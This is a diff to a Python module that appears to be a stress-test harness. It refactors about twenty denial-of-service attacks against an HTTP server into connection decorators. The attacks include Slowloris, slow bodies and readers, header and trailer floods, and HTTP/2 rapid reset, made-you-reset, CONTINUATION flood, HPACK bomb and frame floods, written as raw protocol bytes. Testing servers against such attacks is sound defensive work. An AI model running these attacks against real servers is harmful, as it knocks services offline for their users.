@@ -6,6 +6,7 @@ what happened to them. The attacks write bytes to sockets, because no client lib
 import asyncio
 import collections
 import ctypes
+import functools
 import itertools
 import os
 import pathlib
@@ -166,109 +167,102 @@ async def again(counts, number, once):
     await asyncio.gather(*(keep() for _ in range(number)))
 
 
+def connections(number, port="port", **options):
+    """
+    Makes an attack of a coroutine that attacks on one connection. The attack has this number of connections at the same time, to this port of
+    the target, and opens each again when it is closed.
+    """
+
+    def attack_of(on_one):
+        @functools.wraps(on_one)
+        async def attack(target, counts):
+            async def once():
+                async with Connection(target.host, getattr(target, port), counts, **options) as c:
+                    await on_one(c)
+
+            await again(counts, number, once)
+
+        return attack
+
+    return attack_of
+
+
 # HTTP/1.1.
 
 
-async def slow_heads(target, counts):
+@connections(500)
+async def slow_heads(c):
     """500 connections, each with headers that never end, 12 bytes a second (Slowloris)."""
-
-    async def once():
-        async with Connection(target.host, target.port, counts) as c:
-            await c.send(b"GET /ping HTTP/1.1\r\nhost: attacked.example\r\n")
-            await c.trickle(b"x-more: 1\r\n", 1)
-
-    await again(counts, 500, once)
+    await c.send(b"GET /ping HTTP/1.1\r\nhost: attacked.example\r\n")
+    await c.trickle(b"x-more: 1\r\n", 1)
 
 
-async def half_open_http1(target, counts):
+@connections(500)
+async def half_open_http1(c):
     """500 connections, each with the headers of a POST and no byte of its body."""
-
-    async def once():
-        async with Connection(target.host, target.port, counts) as c:
-            await c.send(post("/echo", 1_000_000))
-            await c.drain()
-
-    await again(counts, 500, once)
+    await c.send(post("/echo", 1_000_000))
+    await c.drain()
 
 
-async def slow_bodies_http1(target, counts):
+@connections(500)
+async def slow_bodies_http1(c):
     """500 connections, each with a POST whose body arrives at one byte a second."""
-
-    async def once():
-        async with Connection(target.host, target.port, counts) as c:
-            await c.send(post("/echo", 1_000_000))
-            await c.trickle(b"x", 1)
-
-    await again(counts, 500, once)
+    await c.send(post("/echo", 1_000_000))
+    await c.trickle(b"x", 1)
 
 
-async def slow_readers_http1(target, counts):
+@connections(300, receive_buffer=2048)
+async def slow_readers_http1(c):
     """300 connections that request 20 images each and read nothing."""
-
-    async def once():
-        async with Connection(target.host, target.port, counts, receive_buffer=2048) as c:
-            await c.send(get(IMAGE) * 20)
-            await c.never_read()
-
-    await again(counts, 300, once)
+    await c.send(get(IMAGE) * 20)
+    await c.never_read()
 
 
-async def idle_connections(target, counts):
+@connections(3000)
+async def idle_connections(c):
     """3,000 connections that send nothing."""
-
-    async def once():
-        async with Connection(target.host, target.port, counts) as c:
-            await c.drain()
-
-    await again(counts, 3000, once)
+    await c.drain()
 
 
-async def large_heads(target, counts):
+@connections(500)
+async def large_heads(c):
     """500 connections, each with 60 KiB of headers that never end."""
-    lines = b"".join(b"x-%d: %s\r\n" % (i, b"a" * 480) for i in range(120))
+    await c.send(b"GET /ping HTTP/1.1\r\nhost: attacked.example\r\n" + lines(120, 480))
+    await c.drain()
 
-    async def once():
-        async with Connection(target.host, target.port, counts) as c:
-            await c.send(b"GET /ping HTTP/1.1\r\nhost: attacked.example\r\n" + lines)
-            await c.drain()
 
-    await again(counts, 500, once)
+def lines(number, size):
+    return b"".join(b"x-%d: %s\r\n" % (i, b"a" * size) for i in range(number))
 
 
 CHUNKED = b"POST /echo HTTP/1.1\r\nhost: attacked.example\r\ntransfer-encoding: chunked\r\n\r\n"
 
 
-async def tiny_chunks(target, counts):
+@connections(50)
+async def tiny_chunks(c):
     """50 connections, each with a POST of chunks of one byte with an extension of 60, without end, that reads its response."""
-    chunks = (b"1;x=" + b"a" * 58 + b"\r\nb\r\n") * 200
-
-    async def once():
-        async with Connection(target.host, target.port, counts) as c:
-            await c.send(CHUNKED)
-            await c.trickle(chunks, 0)
-
-    await again(counts, 50, once)
+    await c.send(CHUNKED)
+    await c.trickle((b"1;x=" + b"a" * 58 + b"\r\nb\r\n") * 200, 0)
 
 
-async def many_trailers(target, counts):
+@connections(50)
+async def many_trailers(c):
     """50 connections, each with one POST after the other of one byte and 190 trailers."""
-    trailers = b"".join(b"x-%d: %s\r\n" % (i, b"a" * 10) for i in range(190))
-
-    async def once():
-        async with Connection(target.host, target.port, counts) as c:
-            await c.trickle(CHUNKED + b"1\r\nb\r\n0\r\n" + trailers + b"\r\n", 0)
-
-    await again(counts, 50, once)
+    await c.trickle(CHUNKED + b"1\r\nb\r\n0\r\n" + lines(190, 10) + b"\r\n", 0)
 
 
 # HTTP/2.
 
 
-async def http2(target, counts, number, act, *first_settings, read=True, receive_buffer=None):
-    async def once():
-        async with Connection(target.host, target.port, counts, receive_buffer) as c:
+def http2(number, *first_settings, read=True, receive_buffer=None):
+    """Makes an attack of a coroutine, like `connections`. The connections have sent their preface, and are read from at the same time."""
+
+    def attack_of(act):
+        @connections(number, receive_buffer=receive_buffer)
+        @functools.wraps(act)
+        async def attack(c):
             await c.send(PREFACE + settings(*first_settings) + frame(SETTINGS, ACK, 0))
-            reading = asyncio.ensure_future(c.drain()) if read else asyncio.ensure_future(c.never_read())
+            reading = asyncio.ensure_future(c.drain() if read else c.never_read())
             acting = asyncio.ensure_future(act(c))
             try:
                 done, _ = await asyncio.wait({reading, acting}, return_when=asyncio.FIRST_COMPLETED)
@@ -279,154 +273,131 @@ async def http2(target, counts, number, act, *first_settings, read=True, receive
                 reading.cancel()
                 acting.cancel()
 
-    await again(counts, number, once)
+        return attack
+
+    return attack_of
 
 
-async def half_open_http2(target, counts):
+async def on_each(c, streams, frames):
+    """Sends what `frames` returns for each stream."""
+    await c.send(b"".join(map(frames, streams)))
+
+
+async def on_new(c, number, seconds, frames):
+    """Sends what `frames` returns for each new stream, this number of them at intervals, without end."""
+    for first in range(1, 1 << 30, 2 * number):
+        await on_each(c, range(first, first + 2 * number, 2), frames)
+        await asyncio.sleep(seconds)
+
+
+HUNDRED = range(1, 200, 2)
+
+
+def begun(stream, method, path, *more, end=0):
+    return frame(HEADERS, END_HEADERS | end, stream, head(method, path, *more))
+
+
+def posted(stream):
+    return begun(stream, "POST", "/echo")
+
+
+@http2(10)
+async def half_open_http2(c):
     """10 connections, each with the headers of 1,000 POSTs and no byte of a body."""
-
-    async def act(c):
-        block = head("POST", "/echo")
-        for i in range(1000):
-            await c.send(frame(HEADERS, END_HEADERS, 2 * i + 1, block))
-        await asyncio.sleep(1e6)
-
-    await http2(target, counts, 10, act)
+    for stream in range(1, 2000, 2):
+        await c.send(posted(stream))
+    await asyncio.sleep(1e6)
 
 
-async def slow_bodies_http2(target, counts):
+@http2(10)
+async def slow_bodies_http2(c):
     """10 connections with 100 POSTs each, whose bodies arrive at one byte a second."""
-
-    async def act(c):
-        await c.send(b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, head("POST", "/echo")) for i in range(100)))
-        while True:
-            await asyncio.sleep(1)
-            await c.send(b"".join(frame(DATA, 0, 2 * i + 1, b"x") for i in range(100)))
-
-    await http2(target, counts, 10, act)
+    await on_each(c, HUNDRED, posted)
+    while True:
+        await asyncio.sleep(1)
+        await on_each(c, HUNDRED, lambda stream: frame(DATA, 0, stream, b"x"))
 
 
-async def slow_readers_http2(target, counts):
+@http2(10, (INITIAL_WINDOW_SIZE, 0))
+async def slow_readers_http2(c):
     """10 connections that request 100 images each, and open each stream's window by one byte every 10 s."""
-
-    async def act(c):
-        await c.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, head("GET", IMAGE)) for i in range(100)))
-        while True:
-            await asyncio.sleep(10)
-            await c.send(b"".join(window_update(2 * i + 1, 1) for i in range(100)))
-
-    await http2(target, counts, 10, act, (INITIAL_WINDOW_SIZE, 0))
+    await on_each(c, HUNDRED, lambda stream: begun(stream, "GET", IMAGE, end=END_STREAM))
+    while True:
+        await asyncio.sleep(10)
+        await on_each(c, HUNDRED, lambda stream: window_update(stream, 1))
 
 
-async def full_windows(target, counts):
+POSTS_OF_NEXT = itertools.cycle([16, 100])  # The window of a connection is 1 MiB.
+
+
+@http2(300, (INITIAL_WINDOW_SIZE, 0), receive_buffer=4096)
+async def full_windows(c):
     """300 connections that fill their windows with bodies to be echoed, and read no echo. Every second connection exceeds its windows."""
-    streams = itertools.cycle([16, 100])  # The window of a connection is 1 MiB.
-
-    async def act(c):
-        for stream in range(1, 2 * next(streams), 2):
-            body = b"".join(frame(DATA, 0, stream, bytes(16_000)) for _ in range(4))
-            await c.send(frame(HEADERS, END_HEADERS, stream, head("POST", "/echo", ("content-length", "10000000"))) + body)
-        await asyncio.sleep(1e6)
-
-    await http2(target, counts, 300, act, (INITIAL_WINDOW_SIZE, 0), receive_buffer=4096)
+    for stream in range(1, 2 * next(POSTS_OF_NEXT), 2):
+        body = frame(DATA, 0, stream, bytes(16_000)) * 4
+        await c.send(begun(stream, "POST", "/echo", ("content-length", "10000000")) + body)
+    await asyncio.sleep(1e6)
 
 
-async def small_parts(target, counts):
+@http2(10)
+async def small_parts(c):
     """10 connections with 100 POSTs each. Only 600 of every 64 KiB are body; the rest are frames without effect."""
     filler = frame(PING, ACK, 0, bytes(8)) * 3800
-
-    async def act(c):
-        await c.send(b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, head("POST", "/echo")) for i in range(100)))
-        while True:
-            for i in range(100):
-                await c.send(frame(DATA, 0, 2 * i + 1, bytes(600)) + filler)
-            await asyncio.sleep(0.01)
-
-    await http2(target, counts, 10, act)
+    await on_each(c, HUNDRED, posted)
+    while True:
+        for stream in HUNDRED:
+            await c.send(frame(DATA, 0, stream, bytes(600)) + filler)
+        await asyncio.sleep(0.01)
 
 
-async def rapid_reset(target, counts):
+@http2(10)
+async def rapid_reset(c):
     """10 connections that open requests and reset them immediately (CVE-2023-44487)."""
-
-    async def act(c):
-        for first in range(1, 1 << 30, 200):
-            await c.send(b"".join(
-                frame(HEADERS, END_HEADERS | END_STREAM, stream, head("GET", "/ping")) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
-                for stream in range(first, first + 200, 2)))
-            await asyncio.sleep(0.01)
-
-    await http2(target, counts, 10, act)
+    cancel = struct.pack(">I", 8)
+    await on_new(c, 100, 0.01, lambda stream: begun(stream, "GET", "/ping", end=END_STREAM) + frame(RST_STREAM, 0, stream, cancel))
 
 
-async def made_you_reset(target, counts):
+@http2(10)
+async def made_you_reset(c):
     """10 connections that make the server reset their requests, with WINDOW_UPDATEs of 0 (CVE-2025-8671)."""
-
-    async def act(c):
-        for first in range(1, 1 << 30, 200):
-            await c.send(b"".join(
-                frame(HEADERS, END_HEADERS, stream, head("POST", "/echo")) + window_update(stream, 0)
-                for stream in range(first, first + 200, 2)))
-            await asyncio.sleep(0.01)
-
-    await http2(target, counts, 10, act)
+    await on_new(c, 100, 0.01, lambda stream: posted(stream) + window_update(stream, 0))
 
 
-async def tunnel_trailers(target, counts):
+@http2(10)
+async def tunnel_trailers(c):
     """10 connections that make the server reset their tunnels, with trailers on an extended CONNECT."""
     block = (field(":method", "CONNECT") + field(":protocol", "websocket") + b"\x86" + field(":path", "/ws")
              + field(":authority", "attacked.example"))
-
-    async def act(c):
-        for first in range(1, 1 << 30, 100):
-            await c.send(b"".join(
-                frame(HEADERS, END_HEADERS, stream, block) + frame(HEADERS, END_HEADERS | END_STREAM, stream, field("x-trailer", "1"))
-                for stream in range(first, first + 100, 2)))
-            await asyncio.sleep(0.01)
-
-    await http2(target, counts, 10, act)
+    trailer = field("x-trailer", "1")
+    await on_new(c, 50, 0.01, lambda stream: frame(HEADERS, END_HEADERS, stream, block)
+                 + frame(HEADERS, END_HEADERS | END_STREAM, stream, trailer))
 
 
-async def continuation_flood(target, counts):
+@http2(10)
+async def continuation_flood(c):
     """10 connections with a header block that never ends (CVE-2024-27983 and others)."""
-
-    async def act(c):
-        await c.send(frame(HEADERS, 0, 1, head("GET", "/ping")))
-        while True:
-            await c.send(b"".join(frame(CONTINUATION, 0, 1, b"" if i % 2 else field("x-more", "1")) for i in range(100)))
-            await asyncio.sleep(0.01)
-
-    await http2(target, counts, 10, act)
+    await c.send(frame(HEADERS, 0, 1, head("GET", "/ping")))
+    while True:
+        await c.send(b"".join(frame(CONTINUATION, 0, 1, b"" if i % 2 else field("x-more", "1")) for i in range(100)))
+        await asyncio.sleep(0.01)
 
 
-async def header_bomb(target, counts):
+@http2(10)
+async def header_bomb(c):
     """10 connections with small header blocks that decode to megabytes: they repeat one entry of HPACK's dynamic table."""
-    entry = b"\x40" + text("x-bomb") + text("b" * 3900)
-
-    async def act(c):
-        for stream in range(1, 1 << 30, 2):
-            await c.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, entry + head("GET", "/ping") + b"\xbe" * 4000))
-            await asyncio.sleep(0.005)
-
-    await http2(target, counts, 10, act)
+    block = b"\x40" + text("x-bomb") + text("b" * 3900) + head("GET", "/ping") + b"\xbe" * 4000
+    await on_new(c, 1, 0.005, lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, block))
 
 
-async def frame_floods(target, counts):
+@http2(10, read=False, receive_buffer=4096)
+async def frame_floods(c):
     """10 connections that endlessly send PING, SETTINGS, PRIORITY, WINDOW_UPDATE and empty DATA, and read nothing."""
-
-    async def act(c):
-        await c.send(frame(HEADERS, END_HEADERS, 1, head("POST", "/echo")))
-        some = [
-            frame(PING, 0, 0, bytes(8)),
-            settings((INITIAL_WINDOW_SIZE, 65_535)),
-            frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 1)),
-            window_update(0, 1),
-            frame(DATA, 0, 1),
-        ]
-        while True:
-            await c.send(random.choice(some) * 500)
-            await asyncio.sleep(0.01)
-
-    await http2(target, counts, 10, act, read=False, receive_buffer=4096)
+    some = [frame(PING, 0, 0, bytes(8)), settings((INITIAL_WINDOW_SIZE, 65_535)), frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 1)),
+            window_update(0, 1), frame(DATA, 0, 1)]
+    await c.send(posted(1))
+    while True:
+        await c.send(random.choice(some) * 500)
+        await asyncio.sleep(0.01)
 
 
 # Clients that hold up worker streams, at a rate that no limit forbids.
@@ -506,30 +477,22 @@ async def handshakes(target, counts):
 # The other ports.
 
 
-async def worker_port(target, counts):
+@connections(200, "workers")
+async def worker_port(c):
     """200 connections to the worker port that send random bytes, a request without a token, or nothing."""
-
-    async def once():
-        async with Connection(target.host, target.workers, counts) as c:
-            kind = random.randrange(3)
-            if kind == 0:
-                await c.send(os.urandom(1000))
-            elif kind == 1:
-                await c.send(PREFACE + settings() + frame(HEADERS, END_HEADERS, 1, head("POST", "/control")))
-            await c.drain()
-
-    await again(counts, 200, once)
+    kind = random.randrange(3)
+    if kind == 0:
+        await c.send(os.urandom(1000))
+    elif kind == 1:
+        await c.send(PREFACE + settings() + frame(HEADERS, END_HEADERS, 1, head("POST", "/control")))
+    await c.drain()
 
 
-async def admin_port(target, counts):
+@connections(50, "admin")
+async def admin_port(c):
     """50 connections to the admin port whose request never ends."""
-
-    async def once():
-        async with Connection(target.host, target.admin, counts) as c:
-            await c.send(b"GET /health HTTP/1.1\r\nhost: 127.0.0.1\r\n")
-            await c.trickle(b"x: 1\r\n", 2)
-
-    await again(counts, 50, once)
+    await c.send(b"GET /health HTTP/1.1\r\nhost: 127.0.0.1\r\n")
+    await c.trickle(b"x: 1\r\n", 2)
 
 
 # Programs of others.
